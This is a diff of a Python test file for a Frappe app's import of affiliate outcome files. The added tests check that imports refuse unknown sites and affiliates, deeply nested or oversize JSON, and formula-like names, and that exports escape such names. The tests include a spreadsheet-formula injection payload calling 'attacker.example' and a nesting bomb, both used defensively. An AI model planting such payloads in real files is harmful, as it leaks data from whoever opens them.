@@ -26,7 +26,14 @@ from cis_app.core import network_rollup
 from cis_app.core.outcomes import outcome_metrics, suppress_outcomes
 from cis_app.outcome_export import OutcomeExportError
 from cis_app.permissions import clear_scope_cache
-from cis_app.testing import TwoSites, make_school_year, make_user, make_volunteer
+from cis_app.testing import (
+	TwoSites,
+	make_affiliate,
+	make_school_year,
+	make_site,
+	make_user,
+	make_volunteer,
+)
 
 REPORT = "CIS Outcomes"
 YEAR = ("2020-2021", "2020-08-01", "2021-07-31")
@@ -134,13 +141,19 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 	def setUpClass(cls):
 		super().setUpClass()
 		cls.net = TwoSites.build()
+		# the affiliates whose files are imported, with their sites, as this site knows them; the
+		# affiliate's CIS Administrator serves both (a file names only what is known here)
+		for affiliate, sites in (("CIS North", ("N1", "N2")), ("CIS South", ("S1",))):
+			make_affiliate(affiliate, staff=[(cls.net.admin, "CIS Administrator")])
+			for site in sites:
+				make_site(site, affiliate, None)
 		cls.year = make_school_year(*YEAR)
 		cls.previous_year = make_school_year(*PREVIOUS_YEAR)
 		frappe.db.set_single_value("CIS Settings", "small_cell_threshold", THRESHOLD)
 		frappe.clear_document_cache("CIS Settings", "CIS Settings")
 		frappe.db.delete("Network Outcome")
-		cls.north = export_of("cis-north", "CIS North", north_frame())
-		cls.south = export_of("cis-south", "CIS South", south_frame())
+		cls.north = export_of("CIS North", "CIS North", north_frame())
+		cls.south = export_of("CIS South", "CIS South", south_frame())
 		cls.volunteer = make_volunteer("cis-network-vol@example.com", [cls.net.site_a]).user
 		clear_scope_cache()
 
@@ -237,14 +250,14 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 		self.assertEqual({row.network_outcome_import for row in rows}, {doc.name})
 		self.assertEqual(
 			[(f.affiliate, f.school_year, f.file_format, f.row_count) for f in doc.files],
-			[("cis-north", self.year, "JSON", 27), ("cis-south", self.year, "CSV", 18)],
+			[("CIS North", self.year, "JSON", 27), ("CIS South", self.year, "CSV", 18)],
 		)
 		self.assertEqual(sorted({row.site for row in rows if row.level == "Site"}), ["N1", "N2", "S1"])
 		# a suppressed cell is stored as suppressed, with no figure read from it
 		graduated = next(
 			r
 			for r in rows
-			if r.affiliate == "cis-south" and r.level == "Affiliate" and r.metric == "graduated"
+			if r.affiliate == "CIS South" and r.level == "Affiliate" and r.metric == "graduated"
 		)
 		self.assertEqual((graduated.suppressed, graduated.numerator), (1, 0))
 
@@ -286,7 +299,7 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 		totals = self.network(group_by="None")["result"]
 		self.assertEqual(figures(totals, "Network total"), NETWORK)
 		self.assertEqual(len(totals), 9)
-		south = self.network(affiliate="cis-south")["result"]
+		south = self.network(affiliate="CIS South")["result"]
 		self.assertEqual(figures(south, "Network total")["attendance_goals"], (10, 20, 50.0))
 		self.assertEqual(figures(south, "Network total")["promoted"], (40, 60, 66.7))
 
@@ -320,14 +333,14 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 			(network_rollup.to_json(self.north), "north.json"),
 			(network_rollup.to_csv(self.south), "south.csv"),
 		)
-		north_again = export_of("cis-north", "CIS North", north_frame(extra_promoted=10))
+		north_again = export_of("CIS North", "CIS North", north_frame(extra_promoted=10))
 		second = self.import_files((network_rollup.to_json(north_again), "north-corrected.json"))
 		rows = self.stored()
 		self.assertEqual(len(rows), 45)  # no duplicates
 		self.assertEqual(
-			{r.network_outcome_import for r in rows if r.affiliate == "cis-north"}, {second.name}
+			{r.network_outcome_import for r in rows if r.affiliate == "CIS North"}, {second.name}
 		)
-		self.assertEqual({r.network_outcome_import for r in rows if r.affiliate == "cis-south"}, {first.name})
+		self.assertEqual({r.network_outcome_import for r in rows if r.affiliate == "CIS South"}, {first.name})
 		network = figures(self.network()["result"], "Network total")
 		self.assertEqual(network["cohort"], (197, None, None))
 		self.assertEqual(network["promoted"], (78, 120, 65.0))
@@ -337,10 +350,10 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 			frappe.get_doc("Network Outcome Import", second.name).cancel()
 		finally:
 			frappe.set_user("Administrator")
-		self.assertEqual({r.affiliate for r in self.stored()}, {"cis-south"})
+		self.assertEqual({r.affiliate for r in self.stored()}, {"CIS South"})
 		self.assertEqual(figures(self.network()["result"], "Network total")["cohort"], (85, None, None))
 		# another school year of the same affiliate is kept beside it, and Compare Years shows both
-		earlier = export_of("cis-north", "CIS North", north_frame(), year=self.previous_year)
+		earlier = export_of("CIS North", "CIS North", north_frame(), year=self.previous_year)
 		self.import_files((network_rollup.to_json(earlier), "north-2019.json"))
 		rows = self.network(compare_years=2)["result"]
 		cohort = [
@@ -404,7 +417,119 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 		# the same affiliate and year twice in one import
 		self.assertRefused(good, good, reason="keep one of them")
 		# what was loaded before is untouched
-		self.assertEqual({r.affiliate for r in self.stored()}, {"cis-south"})
+		self.assertEqual({r.affiliate for r in self.stored()}, {"CIS South"})
+
+	def test_a_file_names_only_the_affiliates_own_sites_and_known_codes(self):
+		"""Free text in a site's or the affiliate's name would be imported and shown to every affiliate's
+		administrator: a file naming anything this site does not know is refused, with its line."""
+		self.import_files((network_rollup.to_json(self.south), "south.json"))
+		before = self.stored()
+		named = copy.deepcopy(self.north)
+		for cell in named["rows"]:
+			if cell["site"] == "N2":
+				cell["site"] = "Jordan Smith 4471 dropped out"
+		csv_text = network_rollup.to_csv(named)
+		line = next(n for n, text in enumerate(csv_text.splitlines(), start=1) if "Jordan Smith" in text)
+		self.assertRefused(
+			(csv_text, "north.csv"),
+			reason=f"Line {line} (site Jordan Smith 4471 dropped out, cohort): &quot;Jordan Smith 4471 dropped out&quot; is not a site of &quot;CIS North&quot; on this site.",
+		)
+		self.assertRefused((network_rollup.to_json(named), "north.json"), reason="is not a site of")
+		# the other affiliate's site, an affiliate this site does not have, one the user does not serve
+		swapped = copy.deepcopy(self.north)
+		for cell in swapped["rows"]:
+			if cell["site"] == "N2":
+				cell["site"] = "S1"
+		self.assertRefused((network_rollup.to_json(swapped), "north.json"), reason="is not a site of")
+		elsewhere = export_of("CIS Elsewhere", "CIS Elsewhere", south_frame())
+		self.assertRefused(
+			(network_rollup.to_json(elsewhere), "elsewhere.json"),
+			reason="&quot;CIS Elsewhere&quot; is not an affiliate of this site that you may import for",
+		)
+		make_affiliate("CIS West")
+		make_site("S1 West", "CIS West", None)
+		west = export_of("CIS West", "CIS West", south_frame())
+		for cell in west["rows"]:
+			if cell["site"] == "S1":
+				cell["site"] = "S1 West"
+		self.assertRefused((network_rollup.to_json(west), "west.json"), reason="that you may import for")
+		# a formula or any other text for the affiliate's name, an unknown school year
+		formula = copy.deepcopy(self.north)
+		formula["affiliate"]["name"] = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
+		self.assertRefused(
+			(network_rollup.to_csv(formula), "north.csv"),
+			reason="Line 2: the affiliate&apos;s name &quot;=HYPERLINK(",
+		)
+		other_year = export_of("CIS North", "CIS North", north_frame(), year="1999-2000 (Jordan Smith)")
+		self.assertRefused(
+			(network_rollup.to_json(other_year), "north.json"), reason="is not a School Year of this site"
+		)
+		self.assertEqual(self.stored(), before)
+		# Administrator and System Managers import any affiliate of this site
+		frappe.set_user("Administrator")
+		doc = self.import_files((network_rollup.to_json(west), "west.json"), user="Administrator")
+		self.assertEqual(
+			{r.site for r in self.stored() if r.network_outcome_import == doc.name}, {"S1 West", None}
+		)
+
+	def test_deeply_nested_or_oversize_files_are_a_clear_refusal_not_a_server_error(self):
+		from unittest.mock import patch
+
+		from frappe.desk.form.save import savedocs
+
+		from cis_app.cis_network.doctype.network_outcome_import import network_outcome_import
+
+		deep = '{"format": "cis-outcome-export", "rows": ' + "[" * 100_000 + "]" * 100_000 + "}"
+		url = self.attach(deep, "deep.json")
+		frappe.set_user(self.net.admin)
+		try:
+			doc = {"doctype": "Network Outcome Import", "title": "Deep", "files": [{"export_file": url}]}
+			with self.assertRaises(OutcomeExportError) as caught:
+				savedocs(json.dumps(doc), "Save")
+			self.assertIn("nested more than 4 levels deep", str(caught.exception))
+			url = self.attach(network_rollup.to_json(self.north), "north.json")
+			with patch.object(network_outcome_import, "MAX_FILE_SIZE", 1000):
+				with self.assertRaises(OutcomeExportError) as caught:
+					savedocs(json.dumps({**doc, "files": [{"export_file": url}]}), "Save")
+			self.assertIn("is larger than 0 MB", str(caught.exception))
+		finally:
+			frappe.set_user("Administrator")
+		self.assertEqual(frappe.db.count("Network Outcome Import", {"title": "Deep"}), 0)
+
+	def test_the_evaluators_export_escapes_formula_like_names(self):
+		import io
+
+		import openpyxl
+
+		from cis_app.disclosures import export_query_report
+
+		self.import_files((network_rollup.to_json(self.north), "north.json"))
+		formula = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
+		frappe.db.set_value("Network Outcome", {"affiliate": "CIS North"}, "affiliate_name", formula)
+		contents = {}
+		frappe.set_user(self.net.evaluator)
+		try:
+			for file_format in ("CSV", "Excel"):
+				frappe.local.form_dict = frappe._dict(
+					report_name=REPORT,
+					file_format_type=file_format,
+					filters=json.dumps(
+						{"school_year": self.year, "network_mode": 1, "group_by": "Affiliate"}
+					),
+					visible_idx="[]",
+				)
+				export_query_report()
+				contents[file_format] = frappe.response["filecontent"]
+		finally:
+			frappe.set_user("Administrator")
+			frappe.local.form_dict = frappe._dict()
+		text = contents["CSV"].decode()
+		self.assertIn("'" + formula.replace('"', '""'), text)
+		self.assertNotIn('"' + formula.replace('"', '""'), text)
+		sheet = openpyxl.load_workbook(io.BytesIO(contents["Excel"])).active
+		values = [cell.value for row in sheet.iter_rows() for cell in row]
+		self.assertIn("'" + formula, values)
+		self.assertEqual([c for row in sheet.iter_rows() for c in row if c.data_type == "f"], [])
 
 	def test_files_attached_in_the_sidebar_fill_the_table(self):
 		frappe.set_user(self.net.admin)
@@ -429,7 +554,7 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 				).insert()
 			doc.save()
 			self.assertEqual([(row.idx, row.affiliate, row.row_count) for row in doc.files], [
-				(1, "cis-north", 27), (2, "cis-south", 18)
+				(1, "CIS North", 27), (2, "CIS South", 18)
 			])  # fmt: skip
 			# a file removed from the import leaves the table at the next save
 			south = frappe.get_all(
@@ -437,12 +562,12 @@ class TestNetworkOutcomeImport(FrappeTestCase):
 			)
 			frappe.delete_doc("File", south[0])
 			doc.save()
-			self.assertEqual([row.affiliate for row in doc.files], ["cis-north"])
+			self.assertEqual([row.affiliate for row in doc.files], ["CIS North"])
 			doc.submit()
 		finally:
 			frappe.set_user("Administrator")
 		self.assertEqual(
-			{(r.affiliate, r.network_outcome_import) for r in self.stored()}, {("cis-north", doc.name)}
+			{(r.affiliate, r.network_outcome_import) for r in self.stored()}, {("CIS North", doc.name)}
 		)
 
 	def test_every_refusal_reason_is_translatable(self):
